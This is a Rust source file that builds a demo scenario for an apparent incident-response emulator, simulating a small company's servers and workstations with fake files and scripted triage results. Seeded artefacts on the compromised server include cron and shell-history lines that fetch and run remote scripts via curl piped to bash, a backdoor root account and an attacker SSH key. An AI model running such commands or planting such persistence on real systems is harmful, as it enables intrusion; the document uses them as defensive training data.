//! The scenario that is used when none is given.

use super::scenario::{Device, DeviceFile, LibraryItem, Scenario, ScriptOutcome, TimeWindow};
use super::settings::{DurationRange, SettingOverrides, TimeSpan};

impl Scenario {
    /// Returns the scenario of a small company: Linux servers of which one is compromised, two Windows
    /// devices, a Mac, and a server that is offline for the first 90 seconds. A minute passes in a second.
    ///
    /// Tags: `triage` on all; `linux`, `windows`, `macos` by system; `servers` and `workstations`; `web`,
    /// `database`, `backup`; `X` on the web servers and the Windows machines.
    pub fn demo() -> Self {
        Scenario {
            name: "demo".to_owned(),
            factor: 60.0,
            // Delays at the lower end, so that a first run takes only seconds.
            settings: SettingOverrides {
                pickup_delay: Some(DurationRange::seconds(5, 60)),
                wrapup_delay: Some(DurationRange::seconds(1, 20)),
                // Scripts run in real time, of which each second counts as a minute here. A slow script
                // must not exceed its limit because of that.
                script_time_limit: Some(TimeSpan::seconds(3_600)),
                ..SettingOverrides::default()
            },
            devices: vec![
                linux(
                    "web-01.example.org",
                    "192.0.2.11",
                    &["web", "X"],
                    ServerState::Compromised,
                ),
                linux(
                    "web-02.example.org",
                    "192.0.2.12",
                    &["web", "X"],
                    ServerState::Clean,
                ),
                linux(
                    "db-01.example.org",
                    "192.0.2.21",
                    &["database"],
                    ServerState::Clean,
                ),
                Device {
                    online: vec![TimeWindow {
                        from: TimeSpan::seconds(90),
                        until: None,
                    }],
                    ..linux(
                        "backup-01.example.org",
                        "192.0.2.31",
                        &["backup"],
                        ServerState::Clean,
                    )
                },
                windows("ws-07.example.org", "Windows11", "192.0.2.107"),
                windows("dc-01.example.org", "WindowsServer2022", "192.0.2.5"),
                macos("mac-03.example.org", "192.0.2.143"),
            ],
            library: vec![LibraryItem {
                name: "minidump.ps1".to_owned(),
                text: Some(include_str!("../../../playbooks/scripts/minidump.ps1").to_owned()),
                ..LibraryItem::default()
            }],
            outcomes: windows_outcomes(),
            ..Scenario::default()
        }
    }
}

/// The state of a Linux server.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum ServerState {
    Clean,
    Compromised,
}

/// Returns the tags of a device.
fn tags(own: &[&str]) -> Vec<String> {
    let mut tags = vec!["triage".to_owned()];
    tags.extend(own.iter().map(|tag| (*tag).to_owned()));
    tags
}

/// Returns a Linux server.
fn linux(name: &str, ip: &str, own: &[&str], state: ServerState) -> Device {
    let mut all = vec!["linux", "servers"];
    all.extend(own);
    Device {
        version: "22.04".to_owned(),
        ip: ip.to_owned(),
        tags: tags(&all),
        group: Some("Servers".to_owned()),
        group_id: 3,
        risk: if state == ServerState::Compromised {
            "High"
        } else {
            "None"
        }
        .to_owned(),
        files: linux_files(name, state),
        ..Device::named(name, "Linux")
    }
}

/// Returns a Windows device.
fn windows(name: &str, os: &str, ip: &str) -> Device {
    let is_server = os.contains("Server");
    Device {
        version: if is_server { "21H2" } else { "24H2" }.to_owned(),
        ip: ip.to_owned(),
        tags: tags(&[
            "windows",
            if is_server { "servers" } else { "workstations" },
            "X",
        ]),
        group: Some(if is_server { "Servers" } else { "Workstations" }.to_owned()),
        group_id: if is_server { 3 } else { 2 },
        files: vec![
            DeviceFile::text(
                "C:\\Windows\\System32\\drivers\\etc\\hosts",
                "127.0.0.1 localhost\r\n",
            ),
            DeviceFile::text("C:\\Users\\Public\\desktop.ini", "[.ShellClassInfo]\r\n"),
        ],
        ..Device::named(name, os)
    }
}

/// Returns a Mac.
fn macos(name: &str, ip: &str) -> Device {
    Device {
        version: "15.1".to_owned(),
        ip: ip.to_owned(),
        tags: tags(&["macos", "workstations"]),
        group: Some("Workstations".to_owned()),
        group_id: 2,
        files: vec![
            DeviceFile::text(
                "/Library/LaunchDaemons/com.example.updater.plist",
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<plist version=\"1.0\"><dict><key>Label</key><string>com.example.updater</string><key>ProgramArguments</key><array><string>/Users/Shared/.update/agent</string></array><key>RunAtLoad</key><true/></dict></plist>\n",
            ),
            DeviceFile::text(
                "/etc/passwd",
                "root:*:0:0:System Administrator:/var/root:/bin/sh\n",
            ),
            DeviceFile::text("/etc/hosts", "127.0.0.1 localhost\n"),
            DeviceFile::text(
                "/Users/kim/.zsh_history",
                ": 1763890000:0;curl -fsSL http://198.51.100.23/a | sh\n",
            ),
        ],
        ..Device::named(name, "macOS")
    }
}

/// Returns the files of a Linux server.
fn linux_files(name: &str, state: ServerState) -> Vec<DeviceFile> {
    let host = name.split('.').next().unwrap_or(name);
    let mut passwd = String::from(
        "root:x:0:0:root:/root:/bin/bash\n\
         daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n\
         www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n\
         mdatp:x:991:991::/home/mdatp:/usr/sbin/nologin\n\
         deploy:x:1000:1000:Deploy,,,:/home/deploy:/bin/bash\n",
    );
    let mut auth = format!(
        "Nov 23 06:25:01 {host} CRON[2211]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)\n\
         Nov 23 07:58:40 {host} sshd[2304]: Accepted publickey for deploy from 192.0.2.90 port 50122 ssh2: ED25519 SHA256:kq3Yk0c4x0tqk1T9o0v5dN3S8d1yJzqf2o7mB4nGx9A\n"
    );
    let mut keys = String::from(
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq0bN0mS1iV2m3aT4kYp5cR6sU7wX8yZ9aB0cD1eF2g deploy@ops.example.org\n",
    );
    let mut files = vec![
        DeviceFile::text("/etc/hostname", &format!("{host}\n")),
        DeviceFile::text(
            "/etc/hosts",
            &format!("127.0.0.1 localhost\n127.0.1.1 {name} {host}\n"),
        ),
        DeviceFile::text(
            "/etc/os-release",
            "PRETTY_NAME=\"Ubuntu 22.04.5 LTS\"\nNAME=\"Ubuntu\"\nVERSION_ID=\"22.04\"\nID=ubuntu\nID_LIKE=debian\n",
        ),
        DeviceFile::text(
            "/etc/group",
            "root:x:0:\nsudo:x:27:deploy\nwww-data:x:33:\ndeploy:x:1000:\n",
        ),
        DeviceFile::text(
            "/etc/nsswitch.conf",
            "passwd: files\ngroup: files\nhosts: files\n",
        ),
        DeviceFile::text(
            "/etc/crontab",
            "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
        ),
        DeviceFile::text(
            "/etc/ssh/sshd_config",
            "Port 22\nPermitRootLogin prohibit-password\nPasswordAuthentication yes\nSubsystem sftp /usr/lib/openssh/sftp-server\n",
        ),
        DeviceFile::text(
            "/etc/systemd/system/app.service",
            "[Unit]\nDescription=Application\n[Service]\nExecStart=/opt/app/bin/serve\nUser=www-data\n[Install]\nWantedBy=multi-user.target\n",
        ),
        DeviceFile::text(
            "/home/deploy/.bash_history",
            "cd /opt/app\ngit pull\nsudo systemctl restart app\n",
        ),
        DeviceFile::text(
            "/var/log/syslog",
            &format!("Nov 23 06:25:01 {host} systemd[1]: Started Daily apt download activities.\n"),
        ),
    ];
    if state == ServerState::Compromised {
        passwd.push_str("support:x:0:0::/home/support:/bin/bash\n");
        for second in 10..40 {
            auth.push_str(&format!(
                "Nov 23 08:14:{second} {host} sshd[{}]: Failed password for root from 198.51.100.23 port {} ssh2\n",
                2500 + second,
                40000 + second * 7
            ));
        }
        auth.push_str(&format!(
            "Nov 23 08:14:52 {host} sshd[2561]: Accepted password for deploy from 198.51.100.23 port 40511 ssh2\n\
             Nov 23 08:15:09 {host} sudo:   deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/sbin/useradd -o -u 0 support\n\
             Nov 23 08:21:30 {host} sshd[2610]: Accepted publickey for deploy from 198.51.100.23 port 40688 ssh2: ED25519 SHA256:QoES08Iaj8XNXeEAbAzAnWlbcMfX3Sr6uGkllPLEt1I\n"
        ));
        keys.push_str(
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINHeEpvOD4xkN/YEWIIfpIbdfX5OAJ5NEVI8D7qc40qH root@kali\n",
        );
        files.extend([
            DeviceFile::text(
                "/etc/cron.d/.sysupdate",
                "*/5 * * * * root curl -fsSL http://198.51.100.23/u.sh | bash >/dev/null 2>&1\n",
            ),
            DeviceFile::text(
                "/var/spool/cron/crontabs/www-data",
                "* * * * * /tmp/.x/kworker -o pool.example.net:3333\n",
            ),
            DeviceFile {
                executable: true,
                ..DeviceFile::text("/tmp/.x/kworker", "#!/bin/sh\n# placeholder of a miner; does nothing\nexit 0\n")
            },
            DeviceFile::text(
                "/var/www/html/uploads/s.php",
                "<?php /* placeholder of a web shell; does nothing */ ?>\n",
            ),
            DeviceFile::text(
                "/root/.bash_history",
                "useradd -o -u 0 support\ncurl -fsSL http://198.51.100.23/u.sh | bash\nhistory -c\n",
            ),
        ]);
    }
    files.extend([
        DeviceFile::text("/etc/passwd", &passwd),
        DeviceFile::text("/var/log/auth.log", &auth),
        DeviceFile::text("/home/deploy/.ssh/authorized_keys", &keys),
    ]);
    files
}

/// Returns the outcomes of the shipped Windows scripts, since PowerShell is not executed here.
fn windows_outcomes() -> Vec<ScriptOutcome> {
    let outcome = |script: &str, args: &str, stdout: &str| ScriptOutcome {
        script: script.to_owned(),
        args: args.to_owned(),
        os: "windows*".to_owned(),
        stdout: stdout.to_owned(),
        duration: TimeSpan::seconds(4),
        ..ScriptOutcome::default()
    };
    let with_file = |scripted: ScriptOutcome, path: &str, archive: &str, duration| ScriptOutcome {
        files: vec![DeviceFile {
            path: path.to_owned(),
            base64: Some(archive.to_owned()),
            ..DeviceFile::default()
        }],
        duration: TimeSpan::seconds(duration),
        ..scripted
    };
    vec![
        outcome("*triage-windows*.ps1", "*-Remove*", "TRIAGE-REMOVED\r\n"),
        with_file(
            outcome(
                "*triage*.ps1",
                "*",
                "TRIAGE-COMPLETE bytes=244 sha256=scripted\r\n",
            ),
            "C:\\ProgramData\\svar-triage\\triage.zip",
            TRIAGE_ZIP,
            12,
        ),
        with_file(
            outcome("*minidump*.ps1", "*", "DUMPED processes=1 bytes=184\r\n"),
            "C:\\windows\\TEMP\\{arg1}.dmp.zip",
            DUMP_ZIP,
            25,
        ),
        outcome("*collect-cache*.ps1", "*-Remove*", "REMOVED\r\n"),
        with_file(
            outcome(
                "*collect-cache*.ps1",
                "*",
                "COLLECTED files=3 skipped=0 bytes=244 sha256=scripted\r\n",
            ),
            "C:\\ProgramData\\svar-cache\\artefacts.zip",
            TRIAGE_ZIP,
            20,
        ),
        outcome(
            "*export-event-logs*.ps1",
            "*-Remove*",
            "{\"removed\":true}\r\n",
        ),
        with_file(
            outcome(
                "*export-event-logs*.ps1",
                "*",
                "{\"taken\":[\"Security\",\"System\"],\"missing\":[],\"bytes\":244,\"sha256\":\"scripted\"}\r\n",
            ),
            "C:\\ProgramData\\svar-eventlogs\\eventlogs.zip",
            TRIAGE_ZIP,
            30,
        ),
        outcome(
            "*find-by-hash*.ps1",
            "*",
            "{\"files_read\":1204,\"matched\":0,\"matches\":[]}\r\n",
        ),
        outcome(
            "*hunt-persistence*.ps1",
            "*-Remove*",
            "{\"removed\":true}\r\n",
        ),
        outcome(
            "*hunt-persistence*.ps1",
            "*",
            "{\"entries\":41,\"marked\":0,\"first\":[]}\r\n",
        ),
        outcome(
            "*.ps1",
            "*",
            "A scripted outcome: PowerShell was not executed on {name}.\r\nArguments: {args}\r\n",
        ),
    ]
}

/// A zip archive with a placeholder of a minidump in it.
const DUMP_ZIP: &str = "UEsDBBQAAAAAAAAAIVwu7FcfOQAAADkAAAALAAAAcHJvY2Vzcy5kbXBNRE1Qk6cAACBwbGFjZWhvbGRlciBvZiBhIG1pbmlkdW1wOyBtYWRlIGJ5IHRoZSBlbXVsYXRvcgpQSwECFAMUAAAAAAAAACFcLuxXHzkAAAA5AAAACwAAAAAAAAAAAAAAgAEAAAAAcHJvY2Vzcy5kbXBQSwUGAAAAAAEAAQA5AAAAYgAAAAAA";
/// A zip archive with a short text in it.
const TRIAGE_ZIP: &str = "UEsDBBQAAAAAAAAAIVzSEvwdlwAAAJcAAAAJAAAAZmFjdHMudHh0UnVuIGtleQlTZWN1cml0eUhlYWx0aAlDOlxXaW5kb3dzXFN5c3RlbTMyXFNlY3VyaXR5SGVhbHRoU3lzdHJheS5leGUNClRhc2sJXE1pY3Jvc29mdFxXaW5kb3dzXFVwZGF0ZU9yY2hlc3RyYXRvclxTY2hlZHVsZSBTY2FuDQpMaXN0ZW5pbmcJMC4wLjAuMDo0NDUNClBLAQIUAxQAAAAAAAAAIVzSEvwdlwAAAJcAAAAJAAAAAAAAAAAAAACAAQAAAABmYWN0cy50eHRQSwUGAAAAAAEAAQA3AAAAvgAAAAAA";
